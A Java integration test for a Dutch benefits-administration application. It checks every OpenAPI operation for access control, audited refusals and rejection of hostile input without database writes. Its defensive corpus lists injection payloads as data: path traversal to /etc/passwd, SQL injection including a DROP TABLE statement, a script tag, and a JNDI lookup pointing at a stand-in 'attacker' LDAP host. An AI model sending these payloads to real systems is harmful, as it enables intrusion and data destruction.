package nl.toeslagen.web.it;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonArrayBuilder;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import jakarta.json.JsonString;
import jakarta.json.JsonStructure;
import jakarta.json.JsonValue;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.URL;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import nl.toeslagen.web.it.OpenApiDocument.Operation;
import nl.toeslagen.web.it.probe.SnapshotProbe;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The OpenAPI document the application serves (complete, and without errors in the pinned Redocly
 * lint: {@link OpenApiChecks}), and the hostile-input and access suites generated from it: every
 * operation in it (a new endpoint is covered without anyone remembering) gets
 *
 * <ul>
 *   <li>the access test: without login 401, as each role the operation does not name in {@code
 *       x-roles} 403, with a REFUSED audit entry of that user (also when the path is long);
 *   <li>the hostile corpus as each role it allows: malformed and deeply nested JSON, wrong types,
 *       missing and duplicate fields, unknown enum values, over-long strings and arrays, huge
 *       bodies, out-of-range dates and numbers, traversal and injection strings in ids and
 *       parameters, wrong content types, over-long paths.
 * </ul>
 *
 * <p>Every answer: no 5xx; every 4xx is application/problem+json with detailNl and detailEn; an
 * input that cannot be valid is refused; and nothing is written. "Nothing written" means: the row
 * count of every table of the schema is unchanged (read by a test-only probe before and after each
 * call), except the audit trail, which may only have gained refusal/failure entries and, because
 * reads of citizen data are audited by design, entries of a read ({@link #READ_ACTION}). Paths
 * under /api/test- are test probes and are skipped.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputIT {

  @Deployment(testable = false)
  static WebArchive deployment() {
    return Deployments.assembledWar().addClass(SnapshotProbe.class);
  }

  /** One demo user per role. */
  static final Map<String, String> USERS = new LinkedHashMap<>();

  static {
    for (String role :
        List.of(
            "BEHANDELAAR",
            "VAKTECHNIEK",
            "TOEZICHT",
            "PRIVACY",
            "TEAMLEIDER",
            "INSPECTIE",
            "BEHEER")) {
      USERS.put(role, role.toLowerCase(Locale.ROOT) + "1");
    }
  }

  /** Audit actions that record a read (of a case, a signal, a letter, a search, the trail). */
  static final Pattern READ_ACTION =
      Pattern.compile("(?i).*(READ|VIEW|SEARCH|EXPORT|VERIF|LIST|TIMELINE|QUERY).*");

  private static final Pattern TEMPLATE = Pattern.compile("\\{([^}/]+)}");
  private static final HttpClient HTTP =
      HttpClient.newBuilder()
          .version(HttpClient.Version.HTTP_1_1)
          .connectTimeout(Duration.ofSeconds(10))
          .build();

  /** Over-long ids and paths: far beyond any id, within what the HTTP server reads at all. */
  private static final int LONG = 1_000;

  private static final int LONG_PARAMETER = 2_000;

  private static final String UNKNOWN_ID = "00000000-0000-4000-8000-000000000000";

  @ArquillianResource URL base;

  private static JsonObject doc;
  private static List<Operation> operations;
  private static final Map<String, String> realIds = new HashMap<>();

  /**
   * Valid bodies of the create operations the set-up used ("POST /api/objections"): the base for
   * one-field mutations there, so that each mutation is the only thing wrong with the request.
   */
  private static final Map<String, JsonObject> seeds = new HashMap<>();

  // ------------------------------------------------------------------ the document

  @Test
  @Order(0)
  void everyOperationOfEveryModuleIsDocumentedWithRolesSecurityAndProblemResponses() {
    OpenApiChecks.everyOperationOfEveryModuleIsDocumentedWithRolesSecurityAndProblemResponses(base);
  }

  @Test
  @Order(0)
  void theDocumentPassesThePinnedRedoclyLintWithoutErrors() throws Exception {
    OpenApiChecks.theDocumentPassesThePinnedRedoclyLintWithoutErrors(base);
  }

  @Test
  @Order(0)
  void theUiSnapshotDescribesTheSamePathsOperationsAndSchemasAsTheServedDocument()
      throws Exception {
    OpenApiChecks.theUiSnapshotDescribesTheSamePathsOperationsAndSchemasAsTheServedDocument(base);
  }

  // ------------------------------------------------------------------ access

  @Test
  @Order(1)
  void everyOperationRefusesCallersWithoutLoginAndEveryRoleItDoesNotNameAndAuditsTheRefusal() {
    setUp();
    List<String> failures = new ArrayList<>();
    Map<Integer, Integer> statuses = new TreeMap<>();
    int calls = 0;
    long started = System.nanoTime();
    for (Operation op : operations) {
      String path = expand(op.path(), Map.of());
      byte[] body = op.hasBody() ? "{}".getBytes(StandardCharsets.UTF_8) : null;
      Answer anonymous = send(null, op.method(), path, "application/json", body);
      calls++;
      statuses.merge(anonymous.status, 1, Integer::sum);
      if (anonymous.status != 401 || !anonymous.isProblem()) {
        failures.add(op.id() + " without login -> " + anonymous.brief());
      }
      List<String> wrongRoles =
          USERS.keySet().stream().filter(r -> !op.roles().contains(r)).toList();
      for (String role : wrongRoles) {
        calls++;
        refusedAndAudited(op, role, path, body, "", failures, statuses);
      }
      if (TEMPLATE.matcher(op.path()).find() && !wrongRoles.isEmpty()) {
        calls++;
        String longPath = expand(op.path(), Map.of("*", "a".repeat(300)));
        refusedAndAudited(
            op, wrongRoles.get(0), longPath, body, " (long path)", failures, statuses);
      }
    }
    System.out.printf(
        "Access suite: %d operations, %d calls in %d s, statuses %s, %d failures%n",
        operations.size(),
        calls,
        Duration.ofNanos(System.nanoTime() - started).toSeconds(),
        statuses,
        failures.size());
    failures.forEach(f -> System.out.println("  ACCESS FAILURE " + f));
    assertThat(failures).as(String.join("\n", failures)).isEmpty();
  }

  private void refusedAndAudited(
      Operation op,
      String role,
      String path,
      byte[] body,
      String note,
      List<String> failures,
      Map<Integer, Integer> statuses) {
    String user = USERS.get(role);
    Snapshot before = snapshot();
    Answer a = send(user, op.method(), path, "application/json", body);
    Snapshot after = snapshot();
    statuses.merge(a.status, 1, Integer::sum);
    String who = op.id() + " as " + role + note;
    if (a.status != 403 || !a.isProblem()) {
      failures.add(who + " -> " + a.brief());
    }
    Map<String, Long> added = after.addedAudit(before);
    boolean audited = refusalOf(user, added);
    // an audit trail that sequences its entries shortly after the commit gets a moment
    for (int i = 0; !audited && i < 3; i++) {
      pause(100);
      after = snapshot();
      added = after.addedAudit(before);
      audited = refusalOf(user, added);
    }
    if (!audited) {
      failures.add(who + " -> refusal not audited (new entries " + added + ")");
    }
    failures.addAll(after.writesSince(before, who));
  }

  private static boolean refusalOf(String user, Map<String, Long> added) {
    return added.keySet().stream()
        .anyMatch(k -> k.startsWith(user + "|") && k.endsWith("|REFUSED"));
  }

  private static void pause(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  /**
   * Waits until nothing changes any more (work the set-up left to jobs after its commits, such as
   * letters), so that later differences are the hostile calls' own; at most 30 s.
   */
  private void settle() {
    Snapshot previous = snapshot();
    for (int i = 0; i < 60; i++) {
      pause(500);
      Snapshot now = snapshot();
      if (now.equals(previous)) {
        return;
      }
      previous = now;
    }
  }

  // ------------------------------------------------------------------ hostile corpus

  @Test
  @Order(2)
  void hostileInputToEveryOperationAsEachAllowedRoleIsRefusedWithAProblemAndWritesNothing() {
    setUp();
    List<String> failures = new ArrayList<>();
    Map<Integer, Integer> statuses = new TreeMap<>();
    int calls = 0;
    long started = System.nanoTime();
    settle();
    Snapshot before = snapshot();
    for (Operation op : operations) {
      List<Case> corpus = corpus(op);
      for (String role : op.roles()) {
        String user = USERS.get(role);
        if (user == null) {
          continue;
        }
        Map<Integer, Integer> perOperation = new TreeMap<>();
        for (Case c : corpus) {
          Answer a = send(user, op.method(), c.path, c.contentType, c.body);
          Snapshot after = snapshot();
          calls++;
          statuses.merge(a.status, 1, Integer::sum);
          perOperation.merge(a.status, 1, Integer::sum);
          String who = op.id() + " as " + role + " with " + c.input;
          if (a.status >= 500) {
            failures.add(who + " -> " + a.brief());
          } else if (a.status >= 400 && !a.isProblemWithDetails()) {
            failures.add(who + " -> not a problem+json with detailNl/detailEn: " + a.brief());
          } else if (a.status < 400 && c.mustBeRefused) {
            failures.add(who + " -> accepted: " + a.brief());
          }
          failures.addAll(after.writesSince(before, who));
          before = after;
        }
        System.out.printf(
            "  %-45s %-12s %3d calls %s%n", op.id(), role, corpus.size(), perOperation);
      }
    }
    System.out.printf(
        "Hostile-input suite: %d operations, %d calls in %d s, statuses %s, %d failures%n",
        operations.size(),
        calls,
        Duration.ofNanos(System.nanoTime() - started).toSeconds(),
        statuses,
        failures.size());
    failures.forEach(f -> System.out.println("  HOSTILE FAILURE " + f));
    assertThat(failures).as(String.join("\n", failures)).isEmpty();
  }

  /** One hostile request for an operation: what it tries, where and with what. */
  record Case(String input, String path, String contentType, byte[] body, boolean mustBeRefused) {}

  List<Case> corpus(Operation op) {
    List<Case> cases = new ArrayList<>();
    boolean write = !"GET".equals(op.method());
    JsonObject schema = OpenApiDocument.resolve(doc, op.bodySchema());
    JsonObject base = seeds.getOrDefault(op.method() + " " + op.path(), plausible(schema));
    String validish = op.hasBody() ? base.toString() : null;
    String path = expand(op.path(), Map.of());

    // ids and path parameters: traversal, injection, out of range, over-long
    Matcher m = TEMPLATE.matcher(op.path());
    while (m.find()) {
      String name = m.group(1);
      for (Map.Entry<String, String> bad : hostileIds().entrySet()) {
        cases.add(
            new Case(
                "path {" + name + "} = " + bad.getKey(),
                expand(op.path(), Map.of(name, bad.getValue())),
                "application/json",
                bytes(validish),
                true));
      }
    }
    // over-long path
    cases.add(
        new Case(
            "over-long path",
            path + "/" + "a".repeat(LONG),
            "application/json",
            bytes(validish),
            true));

    // query parameters: injection, traversal, wrong types, out-of-range dates and numbers
    for (JsonObject parameter : op.parameters("query")) {
      String name = parameter.getString("name");
      String type =
          parameter.containsKey("schema")
              ? parameter.getJsonObject("schema").getString("type", "string")
              : "string";
      Map<String, String> values = new LinkedHashMap<>(hostileParameters());
      switch (type) {
        case "integer", "number" -> {
          values.put("not a number", "abc");
          values.put("beyond long", "99999999999999999999");
          values.put("int max", "2147483647");
          values.put("negative", "-1");
          values.put("fraction", "1.5");
        }
        case "boolean" -> values.put("not a boolean", "maybe");
        default -> {
          values.put("year +999999999", "+999999999-12-31");
          values.put("year 0", "0000-01-01");
          values.put("no such day", "2024-02-30");
        }
      }
      for (Map.Entry<String, String> bad : values.entrySet()) {
        cases.add(
            new Case(
                "query " + name + " = " + bad.getKey(),
                path + "?" + name + "=" + URLEncoder.encode(bad.getValue(), StandardCharsets.UTF_8),
                "application/json",
                bytes(validish),
                write));
      }
    }

    if (!op.hasBody()) {
      return cases;
    }
    // the body: malformed JSON, wrong top-level types, deep nesting, huge, wrong content type
    Map<String, String> bodies = new LinkedHashMap<>();
    bodies.put("malformed JSON", "{nope");
    bodies.put("truncated JSON", "{\"a\": ");
    bodies.put("empty body", "");
    bodies.put("NUL byte", "\u0000");
    bodies.put("top-level array", "[]");
    bodies.put("top-level string", "\"text\"");
    bodies.put("top-level number", "42");
    bodies.put("top-level null", "null");
    JsonObject properties = schema == null ? null : schema.getJsonObject("properties");
    String first =
        properties == null || properties.isEmpty() ? "x" : properties.keySet().iterator().next();
    bodies.put(
        "deeply nested objects in " + first,
        "{\"" + first + "\": " + "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_001));
    bodies.put("deeply nested arrays", "[".repeat(50_000) + "]".repeat(50_000));
    bodies.put(
        "huge body (3 MB) in " + first, "{\"" + first + "\": \"" + "a ".repeat(1_500_000) + "\"}");
    List<String> required =
        schema != null && schema.containsKey("required")
            ? schema.getJsonArray("required").getValuesAs(JsonString.class).stream()
                .map(JsonString::getString)
                .toList()
            : List.of();
    if (!required.isEmpty()) {
      bodies.put("all fields missing", "{}");
    }
    for (Map.Entry<String, String> b : bodies.entrySet()) {
      cases.add(new Case(b.getKey(), path, "application/json", bytes(b.getValue()), true));
    }
    cases.add(new Case("content type text/plain", path, "text/plain", bytes(validish), true));
    cases.add(
        new Case("content type application/xml", path, "application/xml", bytes("<a/>"), true));
    cases.add(new Case("no content type", path, null, bytes(validish), true));

    // field by field, on an otherwise plausible body
    if (properties != null) {
      JsonObject plausible = base;
      for (String field : properties.keySet()) {
        JsonObject property = OpenApiDocument.resolve(doc, properties.getJsonObject(field));
        for (Map.Entry<String, JsonValue> bad : hostileValues(field, property).entrySet()) {
          cases.add(
              new Case(
                  field + " = " + bad.getKey(),
                  path,
                  "application/json",
                  bytes(with(plausible, field, bad.getValue()).toString()),
                  true));
        }
        String text = plausible.toString();
        String once = "\"" + field + "\": " + plausible.getOrDefault(field, JsonValue.NULL) + ", ";
        // twice even where the plausible body leaves the (optional) field out
        String duplicate =
            "{" + once + (plausible.containsKey(field) ? "" : once) + text.substring(1);
        cases.add(
            new Case("duplicate field " + field, path, "application/json", bytes(duplicate), true));
        if (required.contains(field)) {
          JsonObjectBuilder without = Json.createObjectBuilder(plausible);
          without.remove(field);
          cases.add(
              new Case(
                  "missing field " + field,
                  path,
                  "application/json",
                  bytes(without.build().toString()),
                  true));
        }
      }
    }
    return cases;
  }

  /** Values that no field of that schema accepts. */
  static Map<String, JsonValue> hostileValues(String field, JsonObject property) {
    Map<String, JsonValue> values = new LinkedHashMap<>();
    String type = property == null ? "object" : property.getString("type", "object");
    switch (type) {
      case "string" -> {
        values.put("a number", Json.createValue(12345));
        values.put("a boolean", JsonValue.TRUE);
        values.put("an object", JsonValue.EMPTY_JSON_OBJECT);
        values.put("100,000 characters", Json.createValue("abcdefghi ".repeat(10_000)));
        values.put("a 100,000-character word", Json.createValue("x".repeat(100_000)));
        if (property.containsKey("enum")) {
          values.put("an unknown enum value", Json.createValue("NO_SUCH_VALUE"));
        }
        if (isDate(field, property)) {
          values.put("year +999999999", Json.createValue("+999999999-12-31"));
          values.put("year 0", Json.createValue("0000-01-01"));
          values.put("no such day", Json.createValue("2024-02-30"));
          values.put("not a date", Json.createValue("gisteren"));
        }
      }
      case "boolean" -> {
        values.put("the string yes", Json.createValue("yes"));
        values.put("the number 1", Json.createValue(1));
      }
      case "integer", "number" -> {
        values.put("a string", Json.createValue("abc"));
        values.put("a boolean", JsonValue.TRUE);
        values.put("1e400", Json.createValue(new java.math.BigDecimal("1e400")));
        values.put("beyond long", Json.createValue(new java.math.BigInteger("9".repeat(30))));
      }
      case "array" -> {
        values.put("a string", Json.createValue("x"));
        values.put("an object", JsonValue.EMPTY_JSON_OBJECT);
        values.put("numbers as items", Json.createArrayBuilder().add(1).add(2).build());
        JsonArrayBuilder many = Json.createArrayBuilder();
        for (int i = 0; i < 10_000; i++) {
          many.add("x" + i);
        }
        values.put("10,000 items", many.build());
      }
      default -> {
        values.put("a string", Json.createValue("x"));
        values.put("a number", Json.createValue(42));
        values.put("an array", JsonValue.EMPTY_JSON_ARRAY);
      }
    }
    return values;
  }

  static boolean isDate(String field, JsonObject property) {
    String format = property.getString("format", "");
    return format.startsWith("date")
        || field.matches("(?i).*(date|deadline|today)")
        || field.matches(".*[a-z](On|At)");
  }

  /** A body that has the schema's shape, with plain values: the base for one-field mutations. */
  JsonObject plausible(JsonObject schema) {
    JsonObjectBuilder b = Json.createObjectBuilder();
    if (schema == null || !schema.containsKey("properties")) {
      return b.build();
    }
    for (Map.Entry<String, JsonValue> p : schema.getJsonObject("properties").entrySet()) {
      JsonObject property = OpenApiDocument.resolve(doc, p.getValue().asJsonObject());
      b.add(p.getKey(), plausibleValue(p.getKey(), property, 0));
    }
    return b.build();
  }

  private JsonValue plausibleValue(String field, JsonObject property, int depth) {
    if (property == null) {
      return JsonValue.NULL;
    }
    if (property.containsKey("enum")) {
      return property.getJsonArray("enum").get(0);
    }
    return switch (property.getString("type", "object")) {
      case "string" ->
          Json.createValue(
              isDate(field, property)
                  ? LocalDate.now(nl.toeslagen.kernel.DateRange.ZONE).minusDays(3).toString()
                  : "Test");
      case "boolean" -> JsonValue.FALSE;
      case "integer", "number" -> Json.createValue(1);
      case "array" -> {
        JsonObject items = OpenApiDocument.resolve(doc, property.getJsonObject("items"));
        yield depth > 3 || items == null
            ? JsonValue.EMPTY_JSON_ARRAY
            : Json.createArrayBuilder().add(plausibleValue(field, items, depth + 1)).build();
      }
      default -> depth > 3 ? JsonValue.EMPTY_JSON_OBJECT : plausible(property);
    };
  }

  static Map<String, String> hostileIds() {
    Map<String, String> ids = new LinkedHashMap<>();
    // encoded once more, so that it reaches the application as "..%2F..%2F..%2Fetc%2Fpasswd"
    ids.put("traversal", "..%252F..%252F..%252Fetc%252Fpasswd");
    ids.put("dot segment", "%2e%2e");
    ids.put("SQL injection", enc("' OR '1'='1"));
    ids.put("SQL statement", enc("1; DROP TABLE audit_entry; --"));
    ids.put("script", enc("<script>alert(1)</script>"));
    ids.put("JNDI lookup", enc("${jndi:ldap://attacker/x}"));
    ids.put("unknown id", UNKNOWN_ID);
    ids.put("negative number", "-1");
    ids.put("beyond long", "9".repeat(30));
    ids.put(LONG + " characters", "a".repeat(LONG));
    ids.put("unicode", enc("\u202e\ud83d\ude00\u200b"));
    return ids;
  }

  static Map<String, String> hostileParameters() {
    Map<String, String> values = new LinkedHashMap<>();
    values.put("traversal", "../../../etc/passwd");
    values.put("SQL injection", "' OR '1'='1");
    values.put("script", "<script>alert(1)</script>");
    values.put("JNDI lookup", "${jndi:ldap://attacker/x}");
    values.put("NUL byte", "a\u0000b");
    values.put(LONG_PARAMETER + " characters", "a".repeat(LONG_PARAMETER));
    return values;
  }

  // ------------------------------------------------------------------ set-up

  /** The document, and real objects so that hostile bodies reach validation, not just a 404. */
  private void setUp() {
    if (doc != null) {
      return;
    }
    long started = System.nanoTime();
    doc = OpenApiDocument.fetch(base);
    operations =
        OpenApiDocument.operations(doc).stream()
            .filter(op -> !op.path().startsWith("/api/test-"))
            .toList();
    assertThat(operations).hasSizeGreaterThanOrEqualTo(42);

    JsonObject intake =
        ObjectionFlowIT.intake(
            ObjectionFlowIT.validBsn(), ObjectionFlowIT.today().minusDays(10), 1);
    // the seeds are other citizens' objection and signal: an accepted mutation adds one
    seeds.put(
        "POST /api/objections",
        ObjectionFlowIT.intake(
            ObjectionFlowIT.validBsn(), ObjectionFlowIT.today().minusDays(10), 1));
    Answer objection =
        send(
            "behandelaar1", "POST", "api/objections", "application/json", bytes(intake.toString()));
    assertThat(objection.status).as(objection.body).isEqualTo(201);
    String objectionId = objection.json().asJsonObject().getString("id");
    realIds.put("objections.id", objectionId);
    Answer letters =
        send("behandelaar1", "GET", "api/objections/" + objectionId + "/letters", null, null);
    if (letters.status == 200 && !letters.json().asJsonArray().isEmpty()) {
      realIds.put(
          "objections.docId", letters.json().asJsonArray().getJsonObject(0).getString("id"));
    }
    JsonObject register =
        Json.createObjectBuilder()
            .add("bsn", FraudReviewIT.newBsn())
            .add("benefitType", "HUURTOESLAG")
            .add("source", "TIP")
            .add("description", "Tip: er woont een tweede volwassene op het adres")
            .add("legalBasis", "Awir art. 40; behandelkader signalen")
            .add(
                "retentionDate",
                LocalDate.now(nl.toeslagen.kernel.DateRange.ZONE).plusYears(1).toString())
            .build();
    seeds.put(
        "POST /api/signals",
        Json.createObjectBuilder(register).add("bsn", FraudReviewIT.newBsn()).build());
    seeds.put(
        "POST /api/users",
        Json.createObjectBuilder()
            .add("userName", "hostile.input")
            .add("displayName", "Hostile Input")
            .add("password", "lang-genoeg-wachtwoord")
            .add("roles", Json.createArrayBuilder().add("BEHANDELAAR"))
            .add("team", "team-1")
            .build());
    Answer signal =
        send("toezicht1", "POST", "api/signals", "application/json", bytes(register.toString()));
    assertThat(signal.status).as(signal.body).isEqualTo(201);
    realIds.put("signals.id", signal.json().asJsonObject().getString("id"));
    Answer tasks = send("teamleider1", "GET", "api/tasks?scope=all", null, null);
    String taskId = firstId(tasks.status == 200 ? tasks.json() : null);
    if (taskId != null) {
      realIds.put("tasks.id", taskId);
    }
    settle();
    System.out.printf(
        "Hostile-input suite: set up in %d s, real objects %s%n",
        Duration.ofNanos(System.nanoTime() - started).toSeconds(), realIds);
  }

  private static String firstId(JsonValue value) {
    if (value instanceof JsonObject o) {
      if (o.containsKey("id") && o.get("id") instanceof JsonString s) {
        return s.getString();
      }
      for (JsonValue v : o.values()) {
        String id = firstId(v);
        if (id != null) {
          return id;
        }
      }
    } else if (value instanceof JsonArray a) {
      for (JsonValue v : a) {
        String id = firstId(v);
        if (id != null) {
          return id;
        }
      }
    }
    return null;
  }

  /**
   * The path with its template variables filled: the given value for a name ({@code *} for all),
   * else the real object of that resource, else an unknown id.
   */
  private static String expand(String template, Map<String, String> values) {
    Matcher m = TEMPLATE.matcher(template);
    StringBuilder out = new StringBuilder();
    String resource = template.split("/").length > 2 ? template.split("/")[2] : "";
    while (m.find()) {
      String name = m.group(1);
      String value =
          values.getOrDefault(
              name,
              values.getOrDefault("*", realIds.getOrDefault(resource + "." + name, UNKNOWN_ID)));
      m.appendReplacement(out, Matcher.quoteReplacement(value));
    }
    m.appendTail(out);
    String path = out.toString();
    return path.startsWith("/") ? path.substring(1) : path;
  }

  // ------------------------------------------------------------------ HTTP and snapshots

  record Answer(int status, String contentType, String body) {

    boolean isProblem() {
      return contentType != null && contentType.startsWith("application/problem+json");
    }

    boolean isProblemWithDetails() {
      if (!isProblem()) {
        return false;
      }
      try {
        JsonObject p = json().asJsonObject();
        return !p.getString("detailNl", "").isBlank() && !p.getString("detailEn", "").isBlank();
      } catch (RuntimeException e) {
        return false;
      }
    }

    JsonStructure json() {
      return Json.createReader(new StringReader(body)).read();
    }

    String brief() {
      String b = body == null ? "" : body.replaceAll("\\s+", " ");
      return status
          + " "
          + contentType
          + " "
          + (b.length() > 200 ? b.substring(0, 200) + "..." : b);
    }
  }

  private Answer send(String user, String method, String path, String contentType, byte[] body) {
    String relative = path.startsWith("/") ? path.substring(1) : path;
    HttpRequest.Builder builder =
        HttpRequest.newBuilder(URI.create(base.toString() + relative))
            .timeout(Duration.ofSeconds(60))
            .header("Accept", "application/json, application/problem+json, */*")
            .method(
                method,
                body == null
                    ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofByteArray(body));
    if (contentType != null && body != null) {
      builder.header("Content-Type", contentType);
    }
    if (user != null) {
      builder.header(
          "Authorization",
          "Basic "
              + Base64.getEncoder()
                  .encodeToString((user + ":" + user).getBytes(StandardCharsets.UTF_8)));
    }
    try {
      HttpResponse<String> r = HTTP.send(builder.build(), HttpResponse.BodyHandlers.ofString());
      return new Answer(
          r.statusCode(), r.headers().firstValue("Content-Type").orElse(null), r.body());
    } catch (IOException e) {
      return new Answer(599, null, "no answer: " + e);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  /** Row counts per table and audit entries per actor|action|outcome. */
  record Snapshot(Map<String, Long> tables, Map<String, Long> audit) {

    Map<String, Long> addedAudit(Snapshot before) {
      Map<String, Long> added = new TreeMap<>();
      audit.forEach(
          (k, n) -> {
            long d = n - before.audit.getOrDefault(k, 0L);
            if (d != 0) {
              added.put(k, d);
            }
          });
      return added;
    }

    /** What was written since {@code before}, as failures; empty when nothing was. */
    List<String> writesSince(Snapshot before, String who) {
      List<String> writes = new ArrayList<>();
      tables.forEach(
          (table, n) -> {
            long d = n - before.tables.getOrDefault(table, 0L);
            // audit rows are checked below; the login throttle is the authentication's own
            // bookkeeping: a caller's successful login clears the failed logins an earlier test
            // left
            if (d != 0
                && !table.startsWith("audit")
                && !table.equalsIgnoreCase("web_login_throttle")) {
              writes.add(who + " -> wrote rows: " + table + " " + (d > 0 ? "+" : "") + d);
            }
          });
      addedAudit(before)
          .forEach(
              (key, n) -> {
                String[] parts = key.split("\\|", -1);
                String action = parts.length > 1 ? parts[1] : key;
                String outcome = parts.length > 2 ? parts[2] : "";
                if ("SUCCESS".equals(outcome) && !READ_ACTION.matcher(action).matches()) {
                  writes.add(who + " -> audited a change: " + key + " +" + n);
                }
              });
      return writes;
    }
  }

  private Snapshot snapshot() {
    Answer a = send("beheer1", "GET", "api/test-snapshot", null, null);
    assertThat(a.status).as(a.body).isEqualTo(200);
    JsonObject json = a.json().asJsonObject();
    Map<String, Long> tables = new TreeMap<>();
    json.getJsonObject("tables")
        .forEach((k, v) -> tables.put(k, ((jakarta.json.JsonNumber) v).longValue()));
    Map<String, Long> audit = new HashMap<>();
    json.getJsonObject("audit")
        .forEach((k, v) -> audit.put(k, ((jakarta.json.JsonNumber) v).longValue()));
    return new Snapshot(tables, audit);
  }

  private static JsonObject with(JsonObject object, String field, JsonValue value) {
    return Json.createObjectBuilder(object).add(field, value).build();
  }

  private static byte[] bytes(String s) {
    return s == null ? null : s.getBytes(StandardCharsets.UTF_8);
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
  }
}
